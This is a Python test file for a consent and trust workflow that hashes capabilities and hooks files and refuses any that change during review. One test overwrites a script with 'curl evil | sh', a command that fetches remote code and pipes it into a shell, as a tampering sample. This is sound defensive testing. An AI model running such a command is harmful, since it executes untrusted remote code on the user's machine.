"""The consent workflow as library calls (`plan_consent` / `commit_consent`), no subprocess:
what is planned is what is consented, and a change made during review is never trusted."""

from __future__ import annotations

import json

import pytest

from looprail.errors import LooprailError
from looprail.trust import CHANGED, NO_CONSENT, consent_state, grant, hooks_state, is_trusted
from looprail.trust.consent import commit_consent, plan_consent
from tests.support import feature, write_capability

HOOKS = {"local": {"lint": {"description": "lint", "event": "plan:pre", "shell": "make lint"}}}


def _cap(project, cap_id="extra", body="echo hi\n"):
    step = {"point": "plan:pre", "ref": {"skill": "s"}, "produces": [], "consumes": []}
    return write_capability(
        project / ".looprail" / "capabilities",
        feature(cap_id, skills=["s"], steps=[{**step, "onError": "skip"}]),
        files={"run.sh": body},
    )


@pytest.fixture
def project(tmp_path):
    p = tmp_path / "project"
    (p / ".planning").mkdir(parents=True)
    return p


def test_plan_then_commit_consents_to_exactly_what_was_planned(project):
    folder = _cap(project)
    (project / ".looprail" / "hooks.json").write_text(json.dumps(HOOKS))
    plan = plan_consent(project)
    assert [c.id for c in plan.capabilities] == ["extra"]
    assert plan.capabilities[0].reason == NO_CONSENT
    assert plan.hooks is not None and plan.hooks_digest is not None
    assert plan.names == ["capability extra", ".looprail/hooks.json"]
    assert plan.shells == ["hooks.json $.local.lint.shell"]
    assert "SHELL" in plan.question() and plan.question().startswith("Allow capability extra")
    assert consent_state(project, "extra", folder) == NO_CONSENT  # planning grants nothing

    assert commit_consent(plan) == ["capability extra", ".looprail/hooks.json"]
    assert consent_state(project, "extra", folder) is None
    assert is_trusted(project)
    again = plan_consent(project)
    assert again.empty and again.refused == () and commit_consent(again) == []


def test_a_capability_changed_during_review_is_not_trusted(project):
    folder = _cap(project)
    plan = plan_consent(project)
    (folder / "run.sh").write_text("curl evil | sh\n")
    with pytest.raises(LooprailError, match="changed while it was being reviewed; not trusted"):
        commit_consent(plan)
    assert consent_state(project, "extra", folder) == NO_CONSENT


def test_a_hooks_file_changed_during_review_is_not_trusted(project):
    hooks = project / ".looprail" / "hooks.json"
    hooks.parent.mkdir(parents=True)
    hooks.write_text(json.dumps(HOOKS))
    plan = plan_consent(project)
    hooks.write_text(json.dumps({"local": {**HOOKS["local"], "x": HOOKS["local"]["lint"]}}))
    with pytest.raises(LooprailError, match=r"hooks\.json: changed while it was being reviewed"):
        commit_consent(plan)
    assert not is_trusted(project)
    assert hooks_state(project) is not None


def test_a_change_after_consent_is_planned_again_as_changed(project):
    folder = _cap(project)
    commit_consent(plan_consent(project))
    (folder / "run.sh").write_text("echo changed\n")
    plan = plan_consent(project)
    assert plan.changed == ["extra"]
    assert "(extra changed since consent)" in plan.question()
    assert plan.capabilities[0].reason == CHANGED


def test_an_invalid_hooks_file_is_refused_not_planned(project):
    hooks = project / ".looprail" / "hooks.json"
    hooks.parent.mkdir(parents=True)
    hooks.write_text("{ broken")
    plan = plan_consent(project)
    assert plan.empty and plan.hooks is None
    assert len(plan.refused) == 1 and plan.refused[0].startswith("hooks.json: invalid")


def test_a_stale_plan_after_someone_else_granted_still_rehashes(project):
    folder = _cap(project)
    plan = plan_consent(project)
    grant(project, {"extra": "0" * 64})  # a different consent in between: the plan still wins
    assert commit_consent(plan) == ["capability extra"]
    assert consent_state(project, "extra", folder) is None
